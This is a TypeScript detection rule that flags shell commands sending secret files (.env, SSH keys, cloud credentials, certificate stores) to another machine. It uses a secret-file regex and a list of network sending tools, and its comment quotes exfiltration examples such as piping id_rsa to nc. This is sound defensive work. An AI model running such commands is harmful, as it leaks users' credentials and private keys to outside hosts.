import type { RiskyCall, RuleTests } from './risky-call.ts';

const SECRET_FILE =
  /(^|\/)(\.env(\.(?!example|sample|template|dist)\w+)?|id_(rsa|ed25519|ecdsa|dsa)|\.pgpass|\.netrc|credentials(\.json)?|\.aws\/credentials|\.npmrc|\.pypirc|[^/]+\.(pem|p12|pfx|keystore|jks))$/;
/** The word before a file that is read or written here, never sent: a certificate, a key, a cookie jar, an output. */
const KEEPS_FILE_HERE = new Set([
  '-i',
  '--cert',
  '--key',
  '-E',
  '--cacert',
  '-o',
  '-c',
  '-b',
  '--netrc-file',
  '--output',
]);
const SENDERS = new Set([
  'curl',
  'wget',
  'nc',
  'ncat',
  'scp',
  'http',
  'xh',
  'ftp',
  'mail',
  'mailx',
  'sendmail',
  'gist',
  'pastebinit',
  'transfer',
]);

/**
 * Whether a command sends a file of secrets to another machine: `curl -d @.env`, `cat id_rsa | nc host 99`, `gh gist
 * create .env`.
 */
function secretSent(call: RiskyCall): boolean {
  return call.commands.some((command) => {
    const isGist = command.name === 'gh' && command.words[1]?.value === 'gist';
    if (!SENDERS.has(command.name) && !isGist) return false;
    const words = command.words.slice(1).map(({ value }) => value);
    const namesFile = words.some((word, index) => isSecretFile(word) && !KEEPS_FILE_HERE.has(words[index - 1] ?? ''));
    return namesFile || (command.pipedFrom?.words.some(({ value }) => isSecretFile(value)) ?? false);
  });
}

function isSecretFile(word: string): boolean {
  return SECRET_FILE.test(word.replace(/^[\w-]*=?@/, ''));
}

export const secretRules: RuleTests = { 'secrets.exposed': secretSent };
